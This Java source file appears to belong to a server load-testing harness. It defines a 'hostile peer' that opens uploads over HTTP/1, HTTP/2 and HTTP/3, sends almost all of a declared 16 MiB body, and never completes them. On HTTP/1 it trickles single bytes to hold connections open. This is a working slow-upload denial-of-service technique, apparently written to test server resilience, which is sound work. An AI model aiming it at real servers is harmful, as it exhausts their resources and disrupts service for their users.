/* SPDX-License-Identifier: Apache-2.0 */
package org.sbamock.loadgen.attack.peer;

import io.netty.handler.codec.quic.QuicStreamChannel;
import java.io.IOException;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.EnumSet;
import java.util.List;
import java.util.Set;
import org.sbamock.http.HttpProtocol;
import org.sbamock.loadgen.attack.wire.AttackSession;
import org.sbamock.loadgen.attack.wire.AttackTarget;
import org.sbamock.loadgen.attack.wire.Http2Frames;
import org.sbamock.loadgen.attack.wire.Http2Windows;
import org.sbamock.loadgen.attack.wire.Http3Frames;
import org.sbamock.loadgen.attack.wire.Octets;
import org.sbamock.loadgen.attack.wire.QuicWindows;
import org.sbamock.loadgen.attack.wire.RawConnection;
import org.sbamock.loadgen.attack.wire.RawQuicConnection;
import org.sbamock.loadgen.attack.wire.RequestHead;

/** A peer whose uploads use the windows that the server grants, but never end. */
final class UnendedUploads implements HostilePeer {
  private static final int CONTENT_LENGTH = 1 << 24;
  private static final int BLOCK = 1 << 14;
  private static final Duration INTERVAL = Duration.ofMillis(10);
  private static final Duration TRICKLE = Duration.ofSeconds(1);
  private static final long SETTINGS_MILLIS = 2_000;
  private static final byte[] CONTENT = new byte[BLOCK];

  @Override
  public String id() {
    return "unended-uploads";
  }

  @Override
  public String description() {
    return "Uploads 16 MiB except for the end, on "
        + Streams.COUNT
        + " streams, or as many as the server allows, if the protocol has them.";
  }

  @Override
  public Set<HttpProtocol> protocols() {
    return EnumSet.allOf(HttpProtocol.class);
  }

  @Override
  public void attack(AttackSession session) throws IOException, InterruptedException {
    String length = Integer.toString(CONTENT_LENGTH);
    RequestHead head =
        RequestHead.of(session.target(), "POST", AttackTarget.UPLOADS, "content-length", length);
    switch (session.target().protocol()) {
      case H1C, H1 -> overHttp1(session, head);
      case H2C, H2 -> overHttp2(session, head);
      case H3 -> overQuic(session, head);
    }
  }

  private static void overHttp1(AttackSession session, RequestHead head)
      throws IOException, InterruptedException {
    try (RawConnection connection = session.connect()) {
      connection.drain();
      connection.write(head.http1());
      for (int rest = CONTENT_LENGTH - BLOCK; rest > 0 && !session.isOver(); rest -= BLOCK) {
        connection.write(CONTENT);
      }
      while (session.pause(TRICKLE)) {
        connection.write(new byte[1]);
      }
    }
  }

  private static void overHttp2(AttackSession session, RequestHead head)
      throws IOException, InterruptedException {
    Http2Windows windows = new Http2Windows();
    try (RawConnection connection = session.connect()) {
      connection.inBackground(() -> windows.read(connection.in()));
      connection.write(Http2Frames.preface(Http2Frames.DEFAULT_WINDOW));
      windows.awaitSettings(SETTINGS_MILLIS);
      connection.write(Http2Frames.settingsAck());
      Octets heads = new Octets();
      for (int i = 0; i < Streams.COUNT; i++) {
        heads.octets(Http2Frames.headers(Streams.id(i), false, head));
      }
      connection.write(heads.toArray());
      int[] rest = new int[Streams.COUNT];
      Arrays.fill(rest, CONTENT_LENGTH - 1);
      while (session.pause(INTERVAL)) {
        for (int i = 0; i < rest.length && !session.isOver(); i++) {
          int granted = windows.take(Streams.id(i), Math.min(rest[i], BLOCK));
          if (granted > 0) {
            rest[i] -= granted;
            connection.write(
                Http2Frames.frame(Http2Frames.DATA, 0, Streams.id(i), new byte[granted]));
          }
        }
      }
    }
  }

  private static void overQuic(AttackSession session, RequestHead head)
      throws IOException, InterruptedException {
    try (RawQuicConnection connection = session.connectQuic(QuicWindows.LARGE)) {
      List<QuicStreamChannel> streams = new ArrayList<>();
      int[] rest = new int[Streams.COUNT];
      for (int i = 0; i < Streams.COUNT && connection.allowsRequest() && !session.isOver(); i++) {
        QuicStreamChannel stream = connection.request(true);
        streams.add(stream);
        connection.write(stream, Http3Frames.headers(head));
        connection.write(stream, Http3Frames.header(Http3Frames.DATA, CONTENT_LENGTH));
        rest[i] = CONTENT_LENGTH - BLOCK;
      }
      while (session.pause(INTERVAL)) {
        for (int i = 0; i < streams.size() && !session.isOver(); i++) {
          if (rest[i] > 0 && connection.writeIfOpen(streams.get(i), CONTENT)) {
            rest[i] -= BLOCK;
          }
        }
      }
    }
  }
}
